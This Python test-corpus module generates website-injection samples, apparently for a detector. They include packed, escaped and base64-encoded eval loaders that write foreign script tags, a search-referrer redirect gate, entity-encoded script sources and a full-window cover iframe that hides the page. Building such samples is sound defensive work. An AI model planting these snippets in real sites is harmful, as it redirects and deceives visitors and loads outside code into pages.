"""Techniques that send visitors elsewhere or load what is not the site's: loaders, gates, cover frames."""

# ruff: noqa: E501 - a piece of markup reads best on one line
from __future__ import annotations

import base64
import re

from tests.dark_corpus.drafts import Planted
from tests.dark_corpus.scene import Scene

_DIGITS = "0123456789abcdefghijklmnopqrstuvwxyz"


def packed(payload: str) -> str:
    """A script as the p,a,c,k,e,r packer writes it, base 36."""
    words = list(dict.fromkeys(re.findall(r"\w+", payload)))[:36]
    numbers = {word: _DIGITS[place] for place, word in enumerate(words)}
    body = re.sub(r"\w+", lambda found: numbers.get(found.group(), found.group()), payload)
    escaped = body.replace("\\", "\\\\").replace("'", "\\'")
    return (
        "eval(function(p,a,c,k,e,r){e=function(c){return c.toString(36)};if(!''.replace(/^/,String)){while(c--)"
        "r[e(c)]=k[c]||e(c);k=[function(e){return r[e]}];e=function(){return'\\\\w+'};c=1};while(c--)if(k[c])"
        "p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c]);return p}"
        f"('{escaped}',36,{len(words)},'{'|'.join(words)}'.split('|'),0,{{}}))"
    )


def _loader(scene: Scene) -> str:
    address = scene.script_address()
    return scene.rng.choice((
        f'document.write(\'<script src="{address}"></script>\');'.replace("</script>", "<\\/script>"),
        f'window["document"]["write"](\'<script type="text/javascript" src="{address}"><\\/script>\');',
    ))  # fmt: skip


def packed_loader(scene: Scene) -> Planted:
    return _script(scene, packed(_loader(scene).replace("\\/", "/").replace("</script>", "</scr'+'ipt>")))


def double_packed_loader(scene: Scene) -> Planted:
    return _script(scene, packed(packed(_loader(scene).replace("<\\/script>", ""))))


def escaped_loader(scene: Scene) -> Planted:
    payload = _loader(scene)
    how = scene.rng.randrange(3)
    if how == 0:
        return _script(scene, f'eval("{"".join(f"{chr(92)}x{ord(char):02x}" for char in payload)}")')
    if how == 1:
        return _script(scene, f"eval(String.fromCharCode({','.join(str(ord(char)) for char in payload)}))")
    escaped = "".join(f"%{ord(char):02x}" for char in payload)
    return _script(scene, f'eval(unescape("{escaped}"))')


def base64_loader(scene: Scene) -> Planted:
    payload = base64.b64encode(_loader(scene).replace("\\/", "/").encode()).decode()
    return _script(scene, f'eval(atob("{payload}"))')


def referrer_gate(scene: Scene) -> Planted:
    address = scene.page_address()
    script = (
        'var s=document.referrer;if(s.indexOf("baidu")>0||s.indexOf("sogou")>0||s.indexOf("so.com")>0)'
        f'{{location.href="{address}"}}'
    )
    if scene.odd:
        script = script.replace("document.referrer", f"document[{scene.split('referrer')}]").replace(
            '"baidu"', scene.split("baidu")
        )
    return _script(scene, script)


def encoded_script_src(scene: Scene) -> Planted:
    address = scene.script_address()
    value = address if scene.legit else "".join(f"&#{ord(char)};" for char in address)
    return Planted(f'<script src="{value}" type="text/javascript"></script>')


def foreign_script_outside(scene: Scene) -> Planted:
    """A stranger's script where a page has ended or not begun."""
    tag = f'<script src="{scene.script_address()}"></script>'
    return Planted(before=tag) if scene.placement == "head" else Planted(after=tag)


def cover_frame(scene: Scene) -> Planted:
    """A script writes a frame over the whole window and hides the rest of the page."""
    address, name = scene.page_address(), scene.name()
    frame = f'<div id="{name}" style="height:100%;width:100%"><ifr\'+\'ame scrolling="yes" style="height:100%;width:100%" src="{address}"></ifr\'+\'ame></div>'
    rest = (
        f"setInterval(function(){{var c=document.body.children;for(var i=0;i<c.length;i++){{if(c[i].id!='{name}')"
        "c[i].style.display='none'}},100);"
    )
    if scene.legit:  # a site that shows its own new version in a frame
        rest = ""
    return _script(scene, f"document.write('{frame}');{rest}")


def _script(scene: Scene, source: str) -> Planted:
    tag = f'<script type="text/javascript">{source}</script>'
    return Planted(head=tag) if scene.placement == "head" else Planted(tag)
